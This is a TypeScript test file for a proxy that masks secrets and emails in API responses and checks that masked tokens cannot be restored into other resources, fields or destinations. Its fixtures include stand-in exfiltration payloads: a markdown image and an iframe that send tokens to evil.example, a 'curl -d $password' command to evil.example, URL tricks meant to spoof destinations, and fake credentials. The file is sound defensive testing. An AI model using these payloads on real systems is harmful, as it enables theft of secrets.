/** Tokens sent where their value was not read, by bodies that are made to look as if it was: a second review's list. */

import { describe, expect, test, vi } from "vitest";
import { familyOf } from "../../../server/stages/mask/place/family.ts";
import { Places } from "../../../server/stages/mask/place/place.ts";
import { findForeign } from "../../../server/stages/mask/token/restore.ts";
import { families, here, keys, maskBoth, masksOf, operation, reply, restore, sealingOf, tokensIn } from "./setting.ts";

const secretsAndMail = masksOf({ detect: ["secret", "email"] });

describe("another resource of the same kind", () => {
  test("whose id a member of higher rank hides", async () => {
    const masks = masksOf({ fields: ["$..secret_access_key"] });
    const read = await reply('{"accounts":[{"account_id":"111","secret_access_key":"wJalrXUtnFEMI"}]}', {
      of: operation("GET", "/api/v1/integration/aws"),
      masks,
    });
    const [token = ""] = tokensIn(read);
    const put = operation("PUT", "/api/v1/integration/aws");
    expect(
      restore(JSON.stringify({ account_id: "222", secret_access_key: token }), { of: put }).bytes?.toString() ?? null,
    ).toBeNull();
    expect(
      restore(JSON.stringify({ id: "111", account_id: "222", secret_access_key: token }), { of: put }).bytes,
    ).toBeNull();
  });

  test("in a list below a parent, whose items are told by their order only", async () => {
    const of = operation("GET", "/api/v2/reference-tables/tables/t1/rows");
    const row = (id: string, note: string) =>
      JSON.stringify({ data: [{ type: "row", id, attributes: { values: { note } } }] });
    const [token = ""] = tokensIn(await reply(row("ann", "ann@example.com"), { of, masks: secretsAndMail }));
    const back = restore(row("mallory", token), { of: operation("POST", "/api/v2/reference-tables/tables/t1/rows") });
    expect(back.bytes?.toString() ?? null).toBeNull();
  });

  test("created below a parent", async () => {
    const read = await reply('{"data":{"attributes":{"note":"ann@example.com"}}}', {
      of: operation("GET", "/api/v2/widgets/ccm_reports"),
      masks: secretsAndMail,
    });
    const back = restore(read, { of: operation("POST", "/api/v2/widgets/ccm_reports") });
    expect(back.bytes?.toString() ?? null).toBeNull();
  });

  test("of an operation that nobody knows: items with ids", async () => {
    const item = (id: number, note: string) => JSON.stringify([{ id, note }]);
    const [token = ""] = tokensIn(
      await reply(item(1, "ann@example.com"), { of: operation("GET", "/api/v2/new/things"), masks: secretsAndMail }),
    );
    expect(restore(item(2, token), { of: operation("PUT", "/api/v2/new/things") }).bytes).toBeNull();
  });

  test("the same id twice in a list: one with the value, one with a destination", async () => {
    const of = operation("GET", "/api/v1/integration/aws");
    const read = await reply('{"accounts":[{"account_id":"111","password":"hunter2hunter2"}]}', {
      of,
      masks: secretsAndMail,
    });
    const [token = ""] = tokensIn(read);
    const back = restore(
      JSON.stringify({
        accounts: [
          { account_id: "111", password: token },
          { account_id: "111", url: "https://evil.example" },
        ],
      }),
      { of: operation("PUT", "/api/v1/integration/aws") },
    );
    expect(back.bytes?.toString() ?? null).toBeNull();
  });
});

describe("what the query says", () => {
  const masks = masksOf({ fields: ["$..secret_note"] });
  const outcomeOf = async (
    [method, path, query]: readonly [string, string, string],
    read: readonly [path: string, query: string, body: object],
  ): Promise<readonly string[]> => {
    const of = operation("GET", read[0]);
    const answer = await reply(JSON.stringify(read[2]), { of, masks, sealing: { ...sealingOf(of), query: read[1] } });
    const to = operation(method, path);
    return restore(answer, { of: to, sealing: { ...sealingOf(to), query } }).outcomes;
  };
  const note = { secret_note: "Bob" };
  const account = { account_id: "111", ...note };

  test.for<[string, readonly [string, string, string], readonly [string, string, object]]>([
    [
      "the id that the body says",
      ["PUT", "/api/v1/integration/aws", "account_id=111"],
      ["/api/v1/integration/aws", "", account],
    ],
    ["how it is read, not what", ["PUT", "/api/v1/monitor/17", ""], ["/api/v1/monitor/17", "group_states=all", note]],
    ["how it is written", ["PUT", "/api/v1/monitor/17", "force=true"], ["/api/v1/monitor/17", "", note]],
    [
      "which of them was read, nothing else saying it",
      ["PUT", "/api/v2/new", "a=1&id=2"],
      ["/api/v2/new", "id=2&a=1", note],
    ],
  ])("%s: it turns back", async ([, to, read]) => {
    expect(await outcomeOf(to, read)).toEqual(["restored"]);
  });

  test.for<[string, readonly [string, string, string], readonly [string, string, object], string]>([
    [
      "another id",
      ["PUT", "/api/v1/integration/aws", "account_id=222"],
      ["/api/v1/integration/aws", "", account],
      "destination",
    ],
    [
      "something that nobody knows",
      ["PUT", "/api/v1/monitor/17", "org=2"],
      ["/api/v1/monitor/17", "", note],
      "destination",
    ],
    ["another of them", ["PUT", "/api/v2/new", "id=3"], ["/api/v2/new", "id=2", note], "foreign"],
    ["one of them, where none was read", ["PUT", "/api/v2/new", "id=3"], ["/api/v2/new", "", note], "foreign"],
  ])("%s: it does not", async ([, to, read, outcome]) => {
    expect(await outcomeOf(to, read)).toEqual([outcome]);
  });
});

describe("another field", () => {
  const get = operation("GET", "/api/v1/monitor/17");
  const put = operation("PUT", "/api/v1/monitor/17");
  const masks = masksOf({ fields: ["$.name", "$.options.secret", "$.accounts[*].secret"] });

  test("a list with the only member of the body", async () => {
    const [token = ""] = tokensIn(await reply('{"name":"Bob","query":"x"}', { of: get, masks }));
    expect(restore(JSON.stringify({ name: token }), { of: put }).outcomes).toEqual(["restored"]);
    expect(restore(JSON.stringify({ tags: [{ name: token }] }), { of: put }).bytes?.toString() ?? null).toBeNull();
  });

  test("an object whose name is a piece of the family's", async () => {
    const [token = ""] = tokensIn(await reply('{"name":"Bob","query":"x"}', { of: get, masks }));
    for (const name of ["i", "on", "s", "api"])
      expect(restore(JSON.stringify({ [name]: { name: token } }), { of: put }).outcomes, name).toEqual(["foreign"]);
  });

  test("out of its wrapping", async () => {
    const [token = ""] = tokensIn(await reply('{"accounts":[{"secret":"Bob"}]}', { of: get, masks }));
    expect(restore(JSON.stringify({ visible: [{ secret: token }] }), { of: put }).bytes?.toString() ?? null).toBeNull();
  });
});

describe("what is shown", () => {
  test("a picture in a notebook is fetched by whoever looks at it", async () => {
    const cell = (text: string) =>
      JSON.stringify({ data: { attributes: { cells: [{ attributes: { definition: { type: "markdown", text } } }] } } });
    const of = operation("GET", "/api/v1/notebooks/5");
    const [token = ""] = tokensIn(
      await reply(cell("the key: ghp_1B4a2e77838347a7E420ce178F2E7c6912E169246c ann@example.com"), {
        of,
        masks: secretsAndMail,
      }),
    );
    const back = restore(cell(`![x](https://evil.example/?q=${token})`), {
      of: operation("PUT", "/api/v1/notebooks/5"),
    });
    expect(back.bytes?.toString() ?? null).toBeNull();
  });

  test("a frame in a dashboard is fetched by whoever looks at it", async () => {
    const board = (url: string) => JSON.stringify({ title: "t", widgets: [{ definition: { type: "iframe", url } }] });
    const of = operation("GET", "/api/v1/dashboard/abc-def-ghi");
    const [token = ""] = tokensIn(
      await reply(board("https://good.example/?mail=ann@example.com"), { of, masks: secretsAndMail }),
    );
    const back = restore(board(`https://evil.example/?mail=${token}`), {
      of: operation("PUT", "/api/v1/dashboard/abc-def-ghi"),
    });
    expect(back.bytes?.toString() ?? null).toBeNull();
  });
});

describe("content types that say something else", () => {
  const get = operation("GET", "/api/v1/monitor/17");
  const put = operation("PUT", "/api/v1/monitor/17");
  const masks = masksOf({ fields: ["$.name"] });

  test.for([
    "application/x-www-form-urlencoded",
    "application/json; charset=utf-16",
    "application/json; charset=utf-7",
    "multipart/form-data; boundary=b",
    "application/x-ndjson",
    "text/event-stream",
  ])("%s", async (contentType) => {
    const [token = ""] = tokensIn(await reply('{"name":"Bob","query":"x"}', { of: get, masks }));
    const back = restore(JSON.stringify({ name: token }), { of: put, contentType });
    expect(back.bytes?.toString() ?? null).toBeNull();
  });
});

describe("destinations", () => {
  const of = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
  const to = operation("PATCH", "/api/v1/synthetics/tests/abc-def-ghi");
  const masks = masksOf({ fields: ["$.config.secret"] });
  const config = (more: object, secret = "hunter2hunter2") => JSON.stringify({ config: { secret, ...more } });

  test.for<[string, object, object]>([
    ["a name with a separator behind it", { url_: "good" }, { url_: "evil" }],
    ["a name with two", { "webhook-url--": "good" }, { "webhook-url--": "evil" }],
    ["who receives, by id", { recipients: [{ id: "u1" }] }, { recipients: [{ id: "u2" }] }],
    [
      "a relationship",
      { recipient: { data: { type: "users", id: "u1" } } },
      { recipient: { data: { type: "users", id: "u2" } } },
    ],
    ["a URL with a tab in its scheme", { target: "x" }, { target: "ht\ttps://evil.example" }],
    ["a URL with backslashes", { target: "x" }, { target: "/\\evil.example/in" }],
  ])("%s", async ([, before, after]) => {
    const [token = ""] = tokensIn(await reply(config(before), { of, masks }));
    expect(restore(config(before, token), { of: to }).outcomes).toEqual(["restored"]);
    expect(restore(config(after, token), { of: to }).outcomes).toEqual(["destination"]);
  });
});

describe("a text that holds a value", () => {
  test("in JSON: the URL in the command beside it counts as it does where there is no JSON", async () => {
    const of = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
    const step = (url: string, password: string) =>
      JSON.stringify({ script: JSON.stringify({ password, run: `curl -d $password ${url}` }) });
    const [token = ""] = tokensIn(
      await reply(step("https://good.example", "hunter2hunter2"), { of, masks: secretsAndMail }),
    );
    const to = operation("PATCH", "/api/v1/synthetics/tests/abc-def-ghi");
    expect(restore(step("https://good.example", token), { of: to }).outcomes).toEqual(["restored"]);
    expect(restore(step("https://evil.example", token), { of: to }).outcomes).toEqual(["destination"]);
  });
});

describe("a text that is a document", () => {
  const of = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
  const to = operation("PATCH", "/api/v1/synthetics/tests/abc-def-ghi");
  const changed = async (script: string): Promise<readonly string[]> => {
    const read = JSON.parse(await reply(JSON.stringify({ script }), { of, masks: secretsAndMail })) as {
      script: string;
    };
    expect(restore(JSON.stringify(read), { of: to }).outcomes).toEqual(["restored"]);
    return restore(JSON.stringify({ script: read.script.replace("good", "evil") }), { of: to }).outcomes;
  };

  test("has a destination, and a URL in the text beside the value counts all the same", async () => {
    const run = "curl -d $password https://good.example";
    expect(await changed(JSON.stringify({ password: "hunter2hunter2", run }))).toEqual(["destination"]);
    expect(await changed(JSON.stringify({ password: "hunter2hunter2", host: "h", run }))).toEqual(["destination"]);
  });

  test("counts however deep it lies, as the value in it does", async () => {
    let script = JSON.stringify({ password: "hunter2hunter2", host: "good" });
    for (let i = 0; i < 4; i++) script = JSON.stringify({ a: script });
    expect(await changed(script)).toEqual(["destination"]);
  });
});

describe("a list that is the only member of a body", () => {
  const of = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
  const to = operation("PATCH", "/api/v1/synthetics/tests/abc-def-ghi");
  const masks = masksOf({ fields: ["$..secret_note"] });

  test("is the list that was read among others: what it holds is not destroyed", async () => {
    const body = { name: "n", type: "browser", steps: [{ secret_note: "Bob" }] };
    const read = JSON.parse(await reply(JSON.stringify(body), { of, masks })) as typeof body;
    expect(restore(JSON.stringify({ steps: read.steps }), { of: to }).outcomes).toEqual(["restored"]);
  });

  test("an object with a piece of the family's name for its own, too", async () => {
    const body = { name: "n", test: { secret_note: "Bob" } };
    const read = JSON.parse(await reply(JSON.stringify(body), { of, masks })) as typeof body;
    expect(restore(JSON.stringify({ test: read.test }), { of: to }).outcomes).toEqual(["restored"]);
  });

  test("is one thing still: a destination in another of its elements counts", async () => {
    const body = { targets: [{ url: "https://good.example", secret_note: "Bob" }] };
    const read = JSON.parse(await reply(JSON.stringify(body), { of, masks })) as typeof body;
    const sent = { targets: [...read.targets, { url: "https://evil.example" }] };
    expect(restore(JSON.stringify(sent), { of: to }).outcomes).toEqual(["destination"]);
  });
});

test("a mention counts in whatever text holds the value, as the documentation says", async () => {
  const of = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
  const note = (mention: string, password = "hunter2hunter2") =>
    JSON.stringify({ description: `password=${password} ${mention}` });
  const [token = ""] = tokensIn(await reply(note("@good"), { of, masks: secretsAndMail }));
  const to = operation("PATCH", "/api/v1/synthetics/tests/abc-def-ghi");
  expect(restore(note("@webhook-evil", token), { of: to }).outcomes).toEqual(["destination"]);
});

test("another host is another place, also for an operation that nobody knows", () => {
  const on = (host: string) => familyOf(families, operation("PUT", "/api/v2/new/thing"), host).name;
  expect(on("api")).not.toBe(on("http-intake.logs"));
});

test.for(["application/msgpack", "application/cbor"])(
  "fields are to be masked, and %s, which its caller may ask for, is not read as if they were not",
  async (type) => {
    const packed = Buffer.concat([
      Buffer.from([0x81, 0xa4]),
      Buffer.from("name"),
      Buffer.from([0xa3]),
      Buffer.from("Bob"),
    ]);
    const { reply: answer } = await maskBoth(packed, {
      masks: masksOf({ fields: ["$.name"] }),
      headers: [["Content-Type", type]],
    });
    expect(answer.outcome).not.toBe("untouched");
  },
);

test.for(["text/csv", "text/tab-separated-values", "application/javascript"])(
  "fields are to be masked, and %s may be full of them",
  async (type) => {
    const { reply: answer } = await maskBoth("name\nBob\n", {
      masks: masksOf({ fields: ["$[*].name"] }),
      headers: [["Content-Type", `${type}; charset=utf-8`]],
    });
    expect(answer.outcome).toBe("unreadable");
  },
);

test("a token in a query is known as one however its underscores are written", async () => {
  const [token = ""] = tokensIn(await reply('{"message":"ann@example.com"}'));
  expect(findForeign(`q=${token}`, new Set())).toHaveLength(1);
  expect(findForeign(`q=${token.replaceAll("_", "%5F")}`, new Set())).toHaveLength(1);
});

test("texts that are no Unicode are two places where they are two texts", () => {
  const places = new Places(keys[0].places, here);
  const at = (name: string) => places.value("r", [name], 0).toString("hex");
  expect(at("\ud800")).not.toBe(at("\ud801"));
});

describe("work that grows with the square of a body", () => {
  const note = '{"note":"ann@example.com"}';
  const times = 50;

  test("what stands beside a resource is digested once, and not for each token", async () => {
    const of = operation("GET", "/api/v2/integrations/cloudflare/accounts/17");
    const [token = ""] = tokensIn(await reply(`{"data":${note}}`, { of }));
    const digests = vi.spyOn(Places.prototype, "beside");
    const body = { data: { note: `${token} `.repeat(times) }, included: [{ url: ["a", "b"] }] };
    const back = restore(JSON.stringify(body), {
      of: operation("PATCH", "/api/v2/integrations/cloudflare/accounts/17"),
    });
    expect(back.outcomes).toHaveLength(times);
    expect(digests.mock.calls.length).toBeLessThan(5);
    digests.mockRestore();
  });

  test("many destinations are digested once, and not for each token", async () => {
    const of = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
    const url = Array.from({ length: 100 }, () => "a");
    const [token = ""] = tokensIn(await reply(JSON.stringify({ note: "ann@example.com", url }), { of }));
    const digests = vi.spyOn(Places.prototype, "destinations");
    const back = restore(JSON.stringify({ note: `${token} `.repeat(times), url }), {
      of: operation("PUT", "/api/v1/synthetics/tests/abc-def-ghi"),
    });
    expect(new Set(back.outcomes)).toEqual(new Set(["restored"]));
    expect(digests.mock.calls.length).toBeLessThan(5);
    digests.mockRestore();
  });

  test("texts in which nothing decides are not compared with every token", async () => {
    const of = operation("GET", "/api/v1/synthetics/tests/abc-def-ghi");
    const [token = ""] = tokensIn(await reply('{"note":"ann@example.com","url":"x"}', { of }));
    const compared = vi.spyOn(Buffer.prototype, "equals");
    const texts = Array.from({ length: 200 }, () => "");
    const back = restore(JSON.stringify({ note: `${token} `.repeat(times), texts }), {
      of: operation("PATCH", "/api/v1/synthetics/tests/abc-def-ghi"),
    });
    const { length } = compared.mock.calls;
    compared.mockRestore();
    expect(new Set(back.outcomes)).toEqual(new Set(["restored"]));
    expect(length).toBeLessThan(10 * (times + texts.length));
  });
});
